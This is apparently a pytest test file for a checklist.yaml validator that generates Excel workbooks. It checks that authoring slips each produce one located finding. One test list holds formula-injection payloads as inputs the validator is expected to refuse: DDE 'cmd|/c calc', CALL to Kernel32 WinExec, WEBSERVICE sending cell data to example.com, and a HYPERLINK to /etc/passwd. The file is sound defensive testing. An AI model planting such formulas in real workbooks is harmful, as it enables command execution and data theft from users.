"""A pack author's slips in checklist.yaml: each is one finding at its place, all at once, and never a crash."""

from __future__ import annotations

import io
import random
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from soak import times

from cplist.compose.sandbox import environment
from cplist.compose.sheets.plan import fill, plan
from cplist.compose.templates import templates_of
from cplist.core.findings import Finding, FindingsError
from cplist.core.inert import inert
from cplist.core.messages import hint, message
from cplist.documents.job import Inputs
from cplist.documents.request import Request
from cplist.formulas.calculate import calculated
from cplist.pipeline import build
from cplist.workspace.batch import Builder
from cplist.writers.excel.workbook import write_xlsx
from cplist.yamldoc.document import read

SHIPPED = Path(__file__).resolve().parents[4] / "templates" / "shandong-2022-1" / "checklist.yaml"
GOOD = """\
schema: 1
formats: {title: {}, note: {}, header: {}, banner: {}, text: {}, red: {color: C00000}}
choices:
  whose: [甲, 乙]
sheets:
  - name: 表
    title: '{{ name }}的清单'
    rows: item in items
    paper: A4
    freeze: 1
    fields:
      - {name: 统计日期, value: day, type: date, hint: 填日期}
    conditions:
      - {when: '[数]>0', format: red, columns: [数]}
    charts:
      - {title: 图, stacked: 'true', categories: 项, series: [数]}
    columns:
      - {title: 项, key: key, width: 8, value: item, link: {sheet: 表, row: item}}
      - {title: 数, width: 8.5, formula: 'IF([填]="",0,LEN([填])*2+COUNTIF(choice_whose,[填]))', total: sum}
      - {title: 填, width: 9, filled_in: 'true', choices: whose, says: 请填写}
      - {each: name in names, title: '{{ name }}', width: 4, value: name}
      - {title: 末, width: 9, choices_from: 表!项, formula_when: 0, formula: 'SUM([表!数])/1+MAX([另表!数],-[数])'}
  - name: 另表
    title: 另表
    spare: 3
    columns:
      - {title: 数, width: 5, filled_in: 'true', type: number, check: '[数]>0'}
    below:
      - title: 下表
        rows: item in items
        columns:
          - {title: 名, width: 5, value: item}
"""
VALUES = {"name": "示例银行", "items": ["一", "二"], "names": ["张", "李"], "day": "2026-12-01"}


def found(text: str, values: dict[str, Any] = VALUES) -> list[Finding]:
    """The findings of a checklist.yaml with that text, planned and filled."""
    document, findings = read(text.encode(), "checklist.yaml")
    assert findings == []
    try:
        made = plan(document, environment(lambda _: None).from_string)
        fill(made, inert(values), "示例银行", "标题", {})
    except FindingsError as error:
        return list(error.findings)
    return []


def changed(old: str, new: str) -> str:
    assert GOOD.count(old) >= 1
    return GOOD.replace(old, new, 1)


def where(old: str, new: str, mark: str) -> tuple[int, int]:
    """Line and column of the mark in the changed text: behind where the change begins, or else before."""
    text, start = changed(old, new), GOOD.index(old)
    place = text.find(mark, start, text.index("\n", start + len(new)))
    place = text.rindex(mark, 0, start + 1) if place < 0 else place
    return text.count("\n", 0, place) + 1, place - text.rfind("\n", 0, place)


def test_a_good_checklist_has_none() -> None:
    assert found(GOOD) == []


def _more(name: str) -> tuple[str, str]:
    """A further sheet of that name."""
    other = "  - name: 另表"
    return other, f"  - {{name: {name}, title: 题, spare: 1, columns: [{{title: 列, width: 5}}]}}\n{other}"


SLIPS = [
    # keys and values
    ("rows: item in items", "row: item in items", "row:", "checklist-unknown-key", "row"),
    ("schema: 1", "schema: 2", "2", "checklist-not-allowed", "2"),
    ("schema: 1", "scheme: 1\nchioces: {}", "scheme", "checklist-unknown-key", "scheme"),
    ("title: '{{ name }}的清单'", "note: 无", "name: 表", "checklist-missing-key", "title"),
    ("title: '{{ name }}的清单'", "title:", "title", "checklist-empty", "title"),
    ("title: '{{ name }}的清单'", "title: ''", "title", "checklist-empty", "title"),
    ("title: '{{ name }}的清单'", "title: {甲: 乙}", "{甲", "checklist-not-text", "title"),
    ("    rows: item in items\n", "", "name: 表", "checklist-missing-key", "rows"),
    ("paper: A4", "paper: A5", "A5", "checklist-not-allowed", "A5"),
    ("paper: A4", "orientation: upright", "upright", "checklist-not-allowed", "upright"),
    ("paper: A4", "lines: changed", "changed", "checklist-not-allowed", "changed"),
    ("freeze: 1", "freeze: one", "one", "checklist-not-count", "one"),
    ("freeze: 1", "filter: no", "no", "checklist-not-switch", "no"),
    ("freeze: 1", "banner: '{{ item }}'", "'{{ item", "checklist-missing-key", "banner_by"),
    ("freeze: 1", "turned_header: 'true'", "'true'", "checklist-format-missing", "header_turned"),
    ("width: 8.5", "width: wide", "wide", "checklist-not-number", "wide"),
    ("width: 8.5", "width: 0", "0,", "checklist-not-number", "0"),
    (", width: 8.5", "", "{title: 数", "checklist-missing-key", "width"),
    ("type: date", "type: money", "money", "checklist-not-allowed", "money"),
    ("color: C00000", "color: red", "red", "checklist-not-color", "red"),
    ("color: C00000", f"number: {'0' * 256}", "000", "checklist-not-format", "0000"),
    ("color: C00000", "number: 0;0;0;@;0", "0;0", "checklist-not-format", "0;0;0;@;0"),
    ("color: C00000", """number: '0.00"元'""", "'0.00", "checklist-not-format", '0.00"元'),
    ("color: C00000", "number: '[$-804'", "'[$", "checklist-not-format", "[$-804"),
    ("color: C00000", "colour: C00000", "colour", "checklist-unknown-key", "colour"),
    ("color: C00000", "size: big", "big", "checklist-not-number", "big"),
    ("color: C00000", "across: centre", "centre", "checklist-not-allowed", "centre"),
    ("{title: {}, note", "{titel: {}, note", "{titel", "checklist-format-missing", "title"),
    ("[甲, 乙]", "甲", "甲", "checklist-not-a-list", "whose"),
    ("[甲, 乙]", "[]", "[]", "checklist-empty", "whose"),
    ("[甲, 乙]", "[甲, 甲]", "甲]", "checklist-twice", "甲"),
    ("- {title: 填,", "- 填\n      - {title: 填,", "填\n", "checklist-not-a-mapping", "columns"),
    # names
    (*_more("表"), "表,", "checklist-twice", "表"),
    (*_more("选项"), "选项", "checklist-sheet-taken", "选项"),
    (*_more("history"), "history", "checklist-sheet-taken", "history"),
    (*_more("甲" * 32), "甲甲", "checklist-sheet-name", "甲甲"),
    (*_more("𠮷" * 16), "𠮷", "checklist-sheet-name", "𠮷"),
    (*_more("甲/乙"), "甲/乙", "checklist-sheet-name", "甲/乙"),
    ("title: 填,", "title: 数,", "数,", "checklist-twice", "数"),
    ("choices: whose", "choices: who", "who,", "checklist-unknown-name", "who"),
    ("choices: whose", "choices_by: state", "state", "checklist-unknown-name", "state"),
    ("choices_from: 表!项", "choices_from: 表!目", "表!目", "checklist-unknown-name", "表!目"),
    ("choices_from: 表!项", "choices_from: 单!项", "单!项", "checklist-unknown-name", "单!项"),
    ("says: 请填写", "format: filled", "filled", "checklist-unknown-name", "filled"),
    ("says: 请填写", f"says: {'填' * 256}", "填填", "checklist-too-long", "says"),
    ("format: red, columns", "format: rad, columns", "rad", "checklist-unknown-name", "rad"),
    ("columns: [数]}", "columns: [数字]}", "数字", "checklist-unknown-name", "数字"),
    ("categories: 项", "categories: 目", "目", "checklist-unknown-name", "目"),
    ("series: [数]", "series: [总数]", "总数", "checklist-unknown-name", "总数"),
    ("series: [数]", "series: {after: 填, before: 数}", "{after", "checklist-chart-order", "填"),
    (", categories: 项", "", "{title: 图", "checklist-missing-key", "categories"),
    ("key: key, ", "", "- {title: 项", "checklist-no-key", ""),
    ("{sheet: 表, row: item}", "{sheet: 单, row: item}", "单", "checklist-unknown-name", "单"),
    ("{sheet: 表, row: item}", "{sheet: 表}", "{sheet", "checklist-link", ""),
    (
        "{title: 名, width: 5, value: item}",
        "{title: 名, width: 5}\n          - {title: 字, width: 5}",
        "{title: 字",
        "checklist-too-wide",
        "1",
    ),
    ("name: 统计日期", "name: 统计 日期", "统计 日期", "checklist-bad-name", "统计 日期"),
    ("name: 统计日期", "name: AB12", "AB12", "checklist-bad-name", "AB12"),
    ("value: day", "value: name", "name, type", "checklist-date", "示例银行"),
    # formulas
    ("'IF([填]", "'IF([田]", "'IF", "checklist-unknown-name", "[田]"),
    ("[另表!数]", "[另表!量]", "'SUM", "checklist-unknown-name", "[另表!量]"),
    ("[另表!数]", "[别表!数]", "'SUM", "checklist-unknown-name", "[别表!数]"),
    ("choice_whose,", "choice_who,", "'IF", "checklist-unknown-name", "choice_who"),
    ("COUNTIF(choice", "CUONTIF(choice", "'IF", "checklist-unknown-name", "CUONTIF"),
    ("[填]))'", "[填])'", "'IF", "checklist-formula", ""),
    ("[填]))'", "[填])))'", "'IF", "checklist-formula", ")"),
    ("[填]))'", "[填]) 2)'", "'IF", "checklist-formula", "2)"),
    ('"",0,', '"",0，', "'IF", "checklist-formula", "，"),
    ("'[数]>0', format", "'[数]>', format", "'[数]>'", "checklist-formula", ""),
    ("check: '[数]>0'", "check: '([数]>0'", "'([", "checklist-formula", ""),
    ("LEN([填])", f"LEN({'(' * 3000}[填]{')' * 3000})", "'IF", "checklist-formula-nested", "64"),
    ("LEN([填])", f"LEN({'LEN(' * 63}[填]{')' * 63})", "'IF", "checklist-formula-nested", "64"),
    ("LEN([填])", f"SUM({','.join(['1'] * 300)})", "'IF", "checklist-formula-arguments", "255"),
    ("LEN([填])", "+".join(["LEN([填])"] * 1000), "'IF", "checklist-formula-long", "8192"),
    ("LEN([填])", "LEN([数])", "'IF", "checklist-circular", "数 → 数"),
    # Jinja
    ("rows: item in items", "rows: item of items", "item of", "checklist-expression", "of"),
    ("value: item, link", "value: item., link", "item.,", "checklist-expression", "name"),
    ("'{{ name }}的清单'", "'{{ name }的清单'", "'{{", "checklist-expression", "}"),
    ("value: item, link", "value: item | shout, link", "item |", "checklist-expression", "shout"),
    ("value: item, link", f"value: {'(' * 3000}1{')' * 3000}, link", "(((", "checklist-expression", "deeply"),
    ("value: item, link", f"value: {'9' * 5000}, link", "999", "checklist-expression", "digits"),
    ("value: item, link", "value: itme, link", "itme", "template-failed", "itme"),
    ("value: item, link", "value: item / 2, link", "item /", "template-failed", "TypeError"),
    ("rows: item in items", "rows: item in itmes", "item in itmes", "template-failed", "itmes"),
    ("sheet: 表, row: item}", "sheet: 表, row: item.id}", "item.id", "template-failed", "id"),
    ("value: day", "value: date", "date", "template-failed", "date"),
]


@pytest.mark.parametrize(("old", "new", "mark", "rule", "named"), SLIPS)
def test_a_slip_is_one_finding_at_its_place(old: str, new: str, mark: str, rule: str, named: str) -> None:
    (slip, *more) = [f for f in found(changed(old, new)) if "chioces" not in f.arguments.values()]
    assert more == []
    at = slip.location
    assert (slip.rule, at and (at.line, at.column)) == (rule, where(old, new, mark))
    assert any(named in value for value in slip.arguments.values()) or not named
    for language in ("zh", "en"):
        assert message(slip, language)
        assert hint(slip, language)


def test_a_title_that_is_known_when_the_table_is_made_is_taken() -> None:
    assert found(changed("series: [数]", "series: [张]")) == []
    assert found(changed("'[数]>0', format", "'[李]>0', format")) == []


def test_columns_of_one_condition_that_read_each_other_are_a_circle() -> None:
    text = changed("formula: 'SUM([表!数])/1+MAX([另表!数],-[数])'", "formula: '[末]'")
    assert [f.rule for f in found(text)] == ["checklist-circular"]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("  - name: 另表\n", "  - name: 另表\n    party: only\n"),
        ("  - name: 表\n", "  - name: 表\n    party: too\n"),
    ],
)
def test_what_a_formula_reads_stands_in_the_same_workbook(old: str, new: str) -> None:
    (one,) = found(changed(old, new))
    assert (one.rule, one.arguments["sheet"]) == ("checklist-other-book", "另表")
    assert one.location and "SUM" in changed(old, new).splitlines()[one.location.line - 1]


@pytest.mark.parametrize(
    "code", ['0.00"元"', '[$-804]yyyy"年"m"月"d"日"', "#,##0_);[Red](#,##0)", "[>=1]0;0;;@", "0%", r"0\\;0", "@*-"]
)
def test_number_formats_of_excel_are_taken(code: str) -> None:
    assert found(changed("color: C00000", f"number: '{code}'")) == []


def test_all_slips_come_at_once_in_the_order_of_the_file() -> None:
    text = GOOD
    for old, new in (
        ("color: C00000", "color: red"),
        ("paper: A4", "paper: A5"),
        ("value: item, link", "value: item., link"),
        ("choices: whose", "choices: who"),
        ("[另表!数]", "[另表!量]"),
    ):
        text = text.replace(old, new, 1)
    assert [f.rule for f in found(text)] == [
        "checklist-not-color",
        "checklist-not-allowed",
        "checklist-expression",
        "checklist-unknown-name",
        "checklist-unknown-name",
    ]


@pytest.mark.parametrize(
    "formula", ["[数]%", "-[数]^2", "1E3+[数]", "A1+$B$2", "'表'!A1:B2", "IF([数],,2)", "TODAY()", "_xlfn.IFS(1,2)"]
)
def test_what_excel_takes_beyond_our_own_reckoning_is_let_pass(formula: str) -> None:
    assert found(changed("'SUM([表!数])/1+MAX([另表!数],-[数])'", f'"{formula}"')) == []


OUTSIDE = [
    ("'http://example.com/[a.xlsx]表'!A1", "checklist-formula-outside"),
    ("'\\\\server\\share\\[a.xlsx]表'!A1", "checklist-formula-outside"),
    ("'cmd|/c calc'!A0", "checklist-formula-outside"),
    ("'[1]表'!A1", "checklist-formula-outside"),
    ("SUM('file:///C:/[a.xls]表'!$A$1:$B$2)", "checklist-formula-outside"),
    ("'[a.xlsx]表'!A:B", "checklist-formula"),
    ("'[a.xlsx]表'!$1:$3", "checklist-formula"),
    ("COUNTIF(表:另表!A1,1)", "checklist-formula-outside"),
    ("选项!A1", "checklist-formula-outside"),
    ("[1]表!A1", "checklist-formula"),
    ("cmd|'/c calc'!A0", "checklist-unknown-name"),
    ("'http://example.com/[a.xlsx]表'!名称", "checklist-formula"),
    ('WEBSERVICE("http://example.com/"&[数])', "checklist-formula-function"),
    ('_xlfn.WEBSERVICE("http://example.com/")', "checklist-formula-function"),
    ('_xlfn.IMAGE("http://example.com/a.png")', "checklist-formula-function"),
    ('CALL("Kernel32","WinExec","JCJ","calc",0)', "checklist-formula-function"),
    ('RTD("a.b",,"c")', "checklist-formula-function"),
    ('DDE("cmd";"/c calc";"a")', "checklist-formula"),
    ("INDIRECT(\"'http://example.com/[a.xlsx]表'!A1\")", "checklist-formula-function"),
    ('HYPERLINK("http://example.com/"&[数],"看")', "checklist-formula-function"),
    ('HYPERLINK("\\\\server\\share","看")', "checklist-formula-function"),
    ("HYPERLINK([填])", "checklist-formula-function"),
    ('HYPERLINK("#"&[填])', "checklist-formula-function"),
    ("HYPERLINK(\"#'[a.xlsx]表'!A1\")", "checklist-formula-function"),
    ('IF(TRUE,HYPERLINK("file:///etc/passwd"),0)', "checklist-formula-function"),
]
PLACES = {
    "a column": ("'SUM([表!数])/1+MAX([另表!数],-[数])'", "formula"),
    "a check": ("'[数]>0'}\n", "check"),
    "a condition": ("'[数]>0', format", "when"),
}


@pytest.mark.parametrize(("formula", "rule"), OUTSIDE)
@pytest.mark.parametrize("place", PLACES)
def test_what_leads_out_of_the_workbook_is_refused_wherever_a_formula_stands(
    place: str, formula: str, rule: str
) -> None:
    old, key = PLACES[place]
    quoted = "'" + formula.replace("'", "''") + "'"
    text = changed(old, old.replace(old[: old.rindex("'") + 1], quoted))
    rules = {one.rule for one in found(text) if one.path.endswith(key)}
    assert rule in rules


@pytest.mark.parametrize("formula", ['HYPERLINK("#\'表\'!A1","看")', 'HYPERLINK("#统计日期")', "SUM('另表'!A1:B3)"])
def test_a_link_to_a_place_in_the_workbook_is_none(formula: str) -> None:
    text = changed("'SUM([表!数])/1+MAX([另表!数],-[数])'", "'" + formula.replace("'", "''") + "'")
    assert found(text) == []


@pytest.fixture(scope="module")
def builder() -> Builder:
    return Builder([])


@pytest.mark.slow
@pytest.mark.soak
@pytest.mark.parametrize("seed", range(times(24, 2_000)))
def test_whatever_is_done_to_the_shipped_checklist_there_is_no_traceback(builder: Builder, seed: int) -> None:
    """Lines deleted, doubled, cut and swapped with others: a workbook, or findings with places."""
    chance = random.Random(seed)
    lines = SHIPPED.read_text("utf-8").split("\n")
    for _ in range(chance.randint(1, 3)):
        _spoil(lines, chance)
    try:
        document, findings = read("\n".join(lines).encode(), "checklist.yaml")
        if findings:
            return
        profile = builder.profile(str(SHIPPED.parents[2] / "profiles" / "village-bank.yaml"))
        pack = builder.pack_of(profile)
        templates_of(pack)._plan = plan(document, environment(lambda _: None).from_string)
        made = build(Inputs(profile, pack, Request(("checklist",))))
    except FindingsError as error:
        assert error.findings
        assert all(f.location and f.location.file == "checklist.yaml" for f in error.findings)
        return
    finally:
        templates_of(builder.pack("shandong-2022-1"))._plan = None
    assert "checklist" in [file.kind for file in made.outputs] or made.findings


def _spoil(lines: list[str], chance: random.Random) -> None:
    number = chance.randrange(len(lines))
    line = lines[number]
    match chance.randrange(5):
        case 0:
            del lines[number]
        case 1:
            lines.insert(number, line)
        case 2:
            other = chance.randrange(len(lines))
            lines[number], lines[other] = lines[other], line
        case 3:
            lines[number] = line[: chance.randrange(len(line) + 1)]
        case 4:
            at = chance.randrange(len(line) + 1)
            what = chance.choice(["x", "[", "]", "{{", "'", "，", "(", "null", ": "])
            lines[number] = line[:at] + what + line[at:]


def test_a_sheet_of_one_column_may_have_fields_and_a_table_below() -> None:
    text = changed("    spare: 3\n", "    spare: 3\n    fields: [{name: 报告期, value: name, hint: 请填写}]\n")
    document, _ = read(text.encode(), "checklist.yaml")
    made = fill(plan(document, environment(lambda _: None).from_string), inert(VALUES), "行", "题", {})
    book = load_workbook(io.BytesIO(write_xlsx(calculated(made), "", "", "2026-12-01")))
    assert [cell.value for cell in book["另表"][2]][:3] == ["报告期", "示例银行", "请填写"]
